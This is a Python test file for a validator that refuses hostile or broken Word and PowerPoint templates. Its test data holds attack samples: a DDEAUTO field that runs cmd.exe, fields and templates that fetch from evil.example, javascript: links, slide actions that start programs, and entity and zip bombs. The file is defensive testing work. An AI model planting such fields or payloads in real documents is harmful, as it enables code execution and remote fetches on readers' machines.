"""Hostile and broken templates: refused with a reason before a library reads them."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document
from pptx import Presentation

from smartcity_eval.documents.office import template_safety
from smartcity_eval.documents.office.template_safety import template_parts

from .conftest import WORD, paragraph, relations, types

MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


@pytest.fixture
def faults(tmp_path):
    """Return what is wrong with a template of some bytes, in English."""

    def check(data, ending=".docx"):
        path = tmp_path / f"report{ending}"
        path.write_bytes(data)
        parts, problems = template_parts(path)
        assert all(p.file == str(path) for p in problems)
        assert parts or problems
        return [p.message.in_language("en") for p in problems]

    return check


@pytest.mark.parametrize(("library", "ending"), [(Document, ".docx"), (Presentation, ".pptx")])
def test_what_the_libraries_write_is_read(faults, library, ending):
    made = io.BytesIO()
    library().save(made)
    assert faults(made.getvalue(), ending) == []
    other = {".docx": ".pptx", ".pptx": ".docx"}[ending]
    assert "is not a document of" in faults(made.getvalue(), other)[0]


def test_an_address_that_a_reader_clicks_may_stand(word_file, faults):
    good = relations(
        ("hyperlink", "https://example.go.id/a", True), ("hyperlink", "mailto:a@example.id", True)
    )
    assert faults(word_file(**{"word/_rels/document.xml.rels": good})) == []


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"", "is not one of Word"),
        (b"{\\rtf1", "is not one of Word"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old format or is protected"),
        (b"PK\x03\x04" + b"\0" * 100, "damaged, protected, or packed"),
    ],
)
def test_what_is_no_word_file_is_not_opened(faults, data, told):
    assert [told in fault for fault in faults(data)] == [True]


def test_a_zip_of_something_else_is_told(packed, faults):
    assert "is not a document of Word" in faults(packed({"a.xml": "<a/>"}, "text/plain"))[0]


def test_macros_are_refused_by_part_and_by_type(word_file, faults):
    for data in (word_file(**{"word/vbaProject.bin": "x"}), word_file(main=MACROS)):
        assert [fault for fault in faults(data) if "holds macros" in fault]


@pytest.mark.parametrize(
    ("kind", "target", "told"),
    [
        ("attachedTemplate", "file:///C:/Users/x/letter.dotx", "attached to another one"),
        ("attachedTemplate", "https://evil.example/t.dotm", "attached to another one"),
        ("image", "https://evil.example/p.png", "outside itself (image:"),
        ("frame", "http://evil.example", "outside itself (frame:"),
        ("subDocument", "other.docx", "outside itself (subDocument:"),
        ("mailMergeSource", "file:///x", "outside itself"),
        ("hyperlink", "javascript:alert(1)", "outside itself (hyperlink:"),
        ("hyperlink", "file://server/share", "outside itself (hyperlink:"),
    ],
)
def test_what_would_be_fetched_from_elsewhere_is_refused(word_file, faults, kind, target, told):
    part = relations((kind, target, True))
    for place in ("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "_rels/.rels"):
        assert told in faults(word_file(**{place: part}))[0]


@pytest.mark.parametrize(
    "instruction",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'INCLUDEPICTURE "https://evil.example/a.png" \\d',
        'INCLUDETEXT "C:\\\\secret.docx"',
        'LINK Excel.Sheet.8 "x.xls"',
        "MACROBUTTON Run Click",
        "DATE \\@ dd",
        "QUOTE 68 68 69",
        'HYPERLINK "javascript:alert(1)"',
        'HYPERLINK "file://server/x"',
        "",
    ],
)
def test_fields_that_bring_something_in_are_refused(word_file, faults, instruction):
    escaped = instruction.replace('"', "&quot;")
    simple = f'<w:p><w:fldSimple w:instr="{escaped}"/></w:p>'
    half = len(instruction) // 2
    pieces = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in (instruction[:half], instruction[half:])
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    whole = [simple]
    if instruction:
        whole += [
            f"<w:p>{begin}{pieces}{end}</w:p>",
            f"<w:p>{begin}</w:p><w:p>{pieces}</w:p>",
            f"<w:p>{pieces}</w:p>" if instruction.split()[0] != "HYPERLINK" else simple,
        ]
    for inner in whole:
        found = faults(word_file(inner))
        assert found and "word/document.xml" in found[0] and "holds the field" in found[0]


def test_a_field_within_a_field_is_found(word_file, faults):
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    inner = f"{begin}<w:r><w:instrText>DDE x</w:instrText></w:r>{end}"
    outer = f"<w:p>{begin}<w:r><w:instrText>REF </w:instrText></w:r>{inner}{end}</w:p>"
    assert [fault for fault in faults(word_file(outer)) if "'DDE x'" in fault]


@pytest.mark.parametrize(
    "instruction", [" PAGE ", "NUMPAGES  \\* MERGEFORMAT", 'TOC \\o "1-3"', 'HYPERLINK \\l "a"']
)
def test_fields_that_word_works_out_by_itself_may_stand(word_file, faults, instruction):
    escaped = instruction.replace('"', "&quot;")
    assert faults(word_file(f'<w:p><w:fldSimple w:instr="{escaped}"/></w:p>')) == []


@pytest.mark.parametrize(
    ("part", "told"),
    [
        ("word/embeddings/oleObject1.bin", "an embedded object"),
        ("word/activeX/activeX1.xml", "an embedded object"),
        ("word/document.foo", "an embedded object"),
        ("word/afchunk.mht", "an embedded object"),
    ],
)
def test_embedded_objects_are_refused(word_file, faults, part, told):
    assert told in faults(word_file(**{part: "<a/>"}))[0]


def test_a_picture_of_the_old_kind_may_not_lie_elsewhere(word_file, faults):
    vml = "urn:schemas-microsoft-com:vml"
    picture = f'<w:pict><v:imagedata xmlns:v="{vml}" src="https://evil.example/a.png"/></w:pict>'
    assert "brings in something" in faults(word_file(picture))[0]


def test_a_type_for_all_parts_of_an_ending_hides_no_main_part(packed, faults):
    declared = types().replace(
        "</Types>", f'<Default Extension="xml" ContentType="{WORD}"/></Types>'
    )
    data = packed({"word/document.xml": "<a/>", "[Content_Types].xml": declared})
    assert "is not a document of Word" in faults(data)[0]


def test_chunks_of_other_formats_are_refused(word_file, faults):
    assert "holds altChunk" in faults(word_file("<w:altChunk/>"))[0]


@pytest.mark.parametrize(
    ("action", "refused"),
    [
        ("ppaction://program", True),
        ("ppaction://macro?name=x", True),
        ("ppaction://hlinkfile", True),
        ("ppaction://hlinksldjump", False),
        ("", False),
    ],
)
def test_actions_of_slides_that_start_something_are_refused(packed, faults, action, refused):
    slide = f'<a:x xmlns:a="urn:a"><a:hlinkClick action="{action}"/></a:x>'
    data = packed(
        {"ppt/presentation.xml": "<a/>", "ppt/slides/slide1.xml": slide},
        template_safety._MAIN[".pptx"],
    )
    assert bool(faults(data, ".pptx")) == refused


def test_entities_are_not_unfolded(packed, faults):
    bomb = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert "was not opened" in faults(packed({"word/document.xml": bomb}))[0]


def test_a_zip_that_unfolds_to_gigabytes_is_not_opened(word_file, faults):
    bomb = word_file(**{"word/media/image1.png": b"\0" * 60_000_000})
    assert len(bomb) < 100_000
    assert "more than 50 MB" in faults(bomb)[0]
    assert "was not opened" in faults(word_file(paragraph(" " * 3_000_000)))[0]


def test_a_template_of_many_megabytes_is_refused(word_file, faults, monkeypatch):
    monkeypatch.setattr(template_safety, "MAX_TEMPLATE_BYTES", 100)
    assert "the template takes more than" in faults(word_file())[0]


def test_an_encrypted_part_is_not_opened(word_file, faults):
    data = bytearray(word_file())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert "protected" in faults(bytes(data))[0]


def test_broken_xml_is_told(packed, faults):
    assert "damaged" in faults(packed({"word/document.xml": "<a><b></a>"}))[0]


def test_a_folder_of_that_name_is_told(tmp_path):
    (tmp_path / "report.docx").mkdir()
    assert "cannot be opened" in template_parts(tmp_path / "report.docx")[1][0].message.in_language(
        "en"
    )


def test_a_zip_without_types_is_told(faults):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("word/document.xml", "<a/>")
    assert "is not a document of Word" in faults(made.getvalue())[0]
